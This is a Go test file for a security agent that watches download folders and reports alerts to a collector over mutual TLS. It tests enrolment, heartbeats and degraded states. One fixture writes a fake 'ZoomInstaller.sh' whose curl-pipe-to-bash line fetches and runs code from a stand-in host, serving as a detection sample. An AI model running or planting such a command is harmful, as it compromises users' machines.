package agent

import (
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/json"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"meetguard"
	"meetguard/internal/config"
	"meetguard/internal/pki"
)

// told is what a collector got in one batch, and by whose certificate.
type told struct {
	uid       string
	Agent     struct{ UID, Hostname string }
	Heartbeat *struct {
		Seq, Settled uint64
		Interval     int `json:"interval_s"`
		Stopping     bool
		MachineID    string `json:"machine_id"`
		Status       Status
	}
	Alerts []struct {
		Metadata struct{ UID string }
		Device   struct{ UID string }
	}
}

// collector speaks HTTPS with a CA of its own and takes everything.
type collector struct {
	ca   *pki.Authority
	url  string
	told chan told
}

func newCollector(t *testing.T) *collector {
	t.Helper()
	ca, err := pki.Create(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	c := &collector{ca: ca, url: "https://" + ln.Addr().String(), told: make(chan told, 100)}
	srv := &http.Server{Handler: c, ErrorLog: slog.NewLogLogger(slog.DiscardHandler, slog.LevelError)}
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.Serve(tls.NewListener(ln, ca.TLSConfig([]string{"127.0.0.1"}, time.Now)))
	}()
	t.Cleanup(func() { srv.Close(); <-done })
	return c
}

func (c *collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/v1/agent/enroll" {
		var q struct{ CSR string }
		json.NewDecoder(r.Body).Decode(&q)
		issued, err := c.ca.SignDevice(q.CSR, "agent-7", time.Now())
		if err != nil {
			http.Error(w, "", http.StatusBadRequest)
			return
		}
		json.NewEncoder(w).Encode(map[string]any{"agent_uid": "agent-7", "certificate": issued.PEM, "ca": c.ca.Trust(), "bearer": pki.NewBearer(), "next_checkin_s": 60})
		return
	}
	client, err := c.ca.ClientOf(r, time.Now())
	if err != nil {
		http.Error(w, "", http.StatusUnauthorized)
		return
	}
	b := told{uid: client.UID}
	zip, err := gzip.NewReader(r.Body)
	if err == nil {
		err = json.NewDecoder(zip).Decode(&b)
	}
	if err != nil {
		http.Error(w, "", http.StatusBadRequest)
		return
	}
	results := []map[string]string{}
	for _, a := range b.Alerts {
		results = append(results, map[string]string{"uid": a.Metadata.UID, "status": "stored"})
	}
	json.NewEncoder(w).Encode(map[string]any{"results": results, "next_checkin_s": 60})
	c.told <- b
}

// TestEnrolledAgent: two words enrol a machine; an agent that is started without
// any configuration then delivers there as that device, and says when it stops.
func TestEnrolledAgent(t *testing.T) {
	c := newCollector(t)
	downloads := t.TempDir()
	cfg := config.Default()
	cfg.State, cfg.Launches, cfg.Watch = filepath.Join(t.TempDir(), "state"), "off", []string{downloads}
	quiet := slog.New(slog.DiscardHandler)

	there := cfg
	there.Collector = c.url
	words := strings.Fields(c.ca.EnrolLine(c.url, pki.NewSecret()))
	who, err := Enrol(context.Background(), there, "1.0", words[3], quiet)
	if err != nil || !strings.Contains(who, "enrolled as agent-7") {
		t.Fatalf("%q, %v", who, err)
	}

	ctx, stop := context.WithCancel(context.Background())
	defer stop()
	a, err := New(ctx, Options{Config: cfg, Fixed: true, Worker: []string{os.Args[0], workerArg}, Version: "1.0", Log: quiet})
	if err != nil {
		t.Fatal(err)
	}
	ended := make(chan error, 1)
	go func() { ended <- a.Run(ctx) }()
	first := <-c.told
	if first.uid != "agent-7" || first.Heartbeat == nil || first.Heartbeat.Stopping || first.Agent.UID == "" || first.Agent.UID == first.uid {
		t.Errorf("%+v", first)
	}
	put(t, filepath.Join(downloads, "ZoomInstaller.sh"), []byte("#!/bin/sh\n# Zoom Installer\necho 'Installing Zoom'\ncurl -k -s https://zoom-update.invalid/x | bash\n"))
	alert := <-c.told
	if len(alert.Alerts) != 1 || alert.uid != "agent-7" || alert.Alerts[0].Device.UID != first.Agent.UID {
		t.Errorf("%+v", alert)
	}
	for a.alerts.Counters().Acked == 0 { // the answer is on its way
		time.Sleep(time.Millisecond)
	}
	stop()
	if err := <-ended; err != nil {
		t.Fatal(err)
	}
	var last told
	for len(c.told) > 0 {
		last = <-c.told
	}
	if h := last.Heartbeat; h == nil || !h.Stopping || h.Seq != 1 || h.Settled != 1 || h.Interval != 60 {
		t.Errorf("the last one: %+v", last.Heartbeat)
	} else if _, ok := source(h.Status.Sources, "identity"); !ok {
		t.Errorf("%+v", h.Status.Sources)
	}
}

func source(all []Source, name string) (Source, bool) {
	for _, s := range all {
		if s.Name == name {
			return s, true
		}
	}
	return Source{}, false
}

// TestAgentWithoutIdentity: whatever is wrong with it, the agent watches, keeps
// its alerts and says what to do.
func TestAgentWithoutIdentity(t *testing.T) {
	for name, tt := range map[string]struct {
		collector string
		spoil     func(state string) error
		want      string
	}{
		"not enrolled": {"https://collector.invalid", func(string) error { return nil }, "run `meetguard enroll https://collector.invalid TOKEN`"},
		"damaged": {"", func(state string) error {
			return os.WriteFile(filepath.Join(state, "device.json"), []byte("{"), 0o600)
		}, "enrol this machine again"},
	} {
		t.Run(name, func(t *testing.T) {
			cfg := config.Default()
			cfg.State, cfg.Launches, cfg.Watch, cfg.Collector = t.TempDir(), "off", []string{t.TempDir()}, tt.collector
			if err := tt.spoil(cfg.State); err != nil {
				t.Fatal(err)
			}
			ctx, stop := context.WithCancel(context.Background())
			a, err := New(ctx, Options{Config: cfg, Fixed: true, Worker: []string{os.Args[0], workerArg}, Version: "1.0", Log: slog.New(slog.DiscardHandler)})
			if err != nil {
				t.Fatal(err)
			}
			ended := make(chan error, 1)
			go func() { ended <- a.Run(ctx) }()
			<-a.files.Ready()
			s, _ := source(a.status().Sources, "identity")
			stop()
			if err := <-ended; err != nil {
				t.Fatal(err)
			}
			if s.State != meetguard.SourceDegraded || !strings.Contains(s.Detail, tt.want) {
				t.Errorf("%+v", s)
			}
		})
	}
}
